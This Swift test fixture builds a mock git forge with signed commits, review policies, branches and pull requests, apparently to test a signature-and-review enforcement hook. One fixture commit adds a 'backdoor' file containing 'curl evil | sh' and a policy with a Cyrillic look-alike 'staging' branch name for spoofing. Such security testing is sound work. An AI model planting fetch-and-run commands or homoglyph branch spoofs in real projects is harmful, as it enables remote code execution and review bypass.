import Support

/// How the world is made: what is in the repositories, and what the forge knows of them.
extension ForgeLieWorld {
  func writeHistory(_ seed: ForgeClone) throws {
    places["BELOW"] = forge.rootCommit
    try seed.git("checkout", "-q", "--detach", "origin/staging")
    var registry = "[people]\n"
    try Tool.succeed("mkdir", ["\(seed.path)/keys"])
    for (person, card) in [("alice", alice), ("dave", dave)] {
      registry += """
        [people.\(person)]
        name = "\(person)"
        [keys.\(person).card]
        id = "\(card.fingerprint)"
        devices = "YubiKey 5"

        """
      try CosignServer.write("\(seed.path)/keys/\(card.fingerprint).asc", try card.certificate())
    }
    let policy = """
      version = 2
      repository = "127.0.0.1/stagex/stagex"
      [[branch]]
      name = "sandbox/*"
      threshold = 1

      """
    try seed.git("add", "keys")
    places["START"] = try seed.commit(
      "Registry", files: ["MAINTAINERS": registry, "review.toml": policy, "packages": "one\n"])
    let start = places["START"]!
    func merge(_ name: String, of change: String, onto base: String) throws -> String {
      try seed.git("checkout", "-q", "--detach", base)
      try seed.git(
        "-c", "user.signingkey=\(alice.signingFingerprint)!", "merge", "-q", "--no-ff", "-S", "-m", name, change,
        environment: alice.environment)
      return try seed.git("rev-parse", "HEAD")
    }
    let first = try seed.commit("First", files: ["first": "1\n"], signedBy: dave)
    places["STAGING"] = try merge("Merge first", of: first, onto: start)
    let staging = places["STAGING"]!
    // Another lawful step from the same place: a server that has split.
    try seed.git("checkout", "-q", "--detach", start)
    places["ASIDE"] = try merge(
      "Merge second", of: try seed.commit("Second", files: ["second": "1\n"], signedBy: dave), onto: start)
    func on(_ base: String, _ message: String, _ files: [String: String], by card: VirtualCard? = nil) throws -> String
    {
      try seed.git("checkout", "-q", "--detach", base)
      return try seed.commit(message, files: files, signedBy: card)
    }
    places["HEAD"] = try on(staging, "Add f", ["f": "1\n"])
    let second = try on(staging, "Add g", ["g": "1\n"])
    places["SECOND"] = try on(second, "Adopt", [:], by: dave)
    places["OTHER"] = try on(staging, "Add other", ["other": "1\n"])
    // A branch whose own rules say whatever its maker wants.
    let own =
      "version = 2\nthreshold = 1\nevidence = \"off\"\n"
      + ["trap", "st\u{430}ging", "staging"].map { "[[branch]]\nname = \"\($0)\"\n" }.joined()
    places["EVIL"] = try on(staging, "Prepare", ["backdoor": "curl evil | sh\n", "review.toml": own])
    places["NOBODY"] = try on(staging, "People", ["MAINTAINERS": "[people.eve]\nname = \"Eve\"\n"])
    places["ALONE"] = try on(staging, "Alone", ["alone": "1\n"], by: dave)
    places["EVILHEAD"] = try on(places["EVIL"]!, "Add f", ["f": "1\n"])
    places["BLOB"] = try seed.git("rev-parse", "\(staging):packages")
    places["TREE"] = try seed.git("rev-parse", "\(staging)^{tree}")
    places["HEADTREE"] = try seed.git("rev-parse", "\(places["HEAD"]!)^{tree}")
    try seed.git("tag", "-a", "-m", "v1", "v1", places["HEAD"]!)
    places["TAG"] = try seed.git("rev-parse", "v1")
    places["NONE"] = String(repeating: "1", count: 40)
    // Whatever is pushed later, all of it is to be had from here.
    for (name, id) in places where name != "NONE" { try seed.git("update-ref", "refs/all/\(name)", id) }
  }

  func writeServer(_ seed: ForgeClone) throws {
    try forge.forge("repository", Self.standIn, "--writer", "alice", "--fork-of", TestForge.repository)
    for repository in [TestForge.repository, TestForge.fork, Self.standIn] {
      let path = forge.path(repository)
      // With the tag a clone would have the request's objects before any lie is told about them.
      try Tool.succeed("git", ["-C", path, "fetch", "-q", "--no-tags", seed.path, "+refs/all/*:refs/all/*"])
      for name in places.keys where name != "NONE" {
        try Tool.succeed("git", ["-C", path, "update-ref", "-d", "refs/all/\(name)"])
      }
      try Tool.succeed("git", ["-C", path, "config", "gc.auto", "0"])
      try set("refs/heads/staging", "$STAGING", in: repository)
      try Tool.succeed("git", ["-C", path, "symbolic-ref", "HEAD", "refs/heads/staging"])
    }
    try set("refs/heads/sandbox/1", "$ALONE", in: TestForge.repository)
    for (branch, commit) in [("topic", "$HEAD"), ("second", "$SECOND"), ("other", "$OTHER")] {
      try set("refs/heads/\(branch)", commit, in: TestForge.fork)
    }
    for (key, value) in [
      ("maint.trustRoot", places["START"]!), ("maint.lead", "staging"), ("maint.program", CosignServer.program),
    ] {
      try Tool.succeed("git", ["-C", forge.path(), "config", key, value])
    }
    try forge.installHook("\(Tool.packageFolder)/hooks/pre-receive")
  }

  func openRequests() throws {
    let page = "/repos/\(TestForge.repository)/pulls"
    for (number, branch) in [(1, "topic"), (2, "second")] {
      try forge.call(
        "POST", page, as: "bob",
        body: #"{"title": "Add \#(branch)", "head": "bob:\#(branch)", "base": "staging", "body": ""}"#)
      try forge.call("PATCH", "\(page)/\(number)", as: "bob", body: #"{"allow_maintainer_edit": true}"#)
    }
    try Tool.succeed(
      "git",
      [
        "-C", forge.path(Self.standIn), "fetch", "-q", forge.path(), "+refs/heads/*:refs/heads/*",
        "+refs/pull/*:refs/pull/*",
      ])
  }

  func makeClone() throws {
    let clone = "\(folder.path)/clone"
    try Tool.succeed("git", ["clone", "-q", forge.remote(), clone])
    let helper = "!f() { echo username=alice; echo password=pw-alice; }; f"
    for (key, value) in [
      ("user.name", "alice"), ("user.email", "alice@example.org"), ("maint.trustRoot", places["START"]!),
      ("maint.lead", "staging"),
      ("maint.forge", "forgejo"), ("credential.\(forge.url).helper", helper),
    ] { try Tool.succeed("git", ["-C", clone, "config", key, value]) }
  }
}
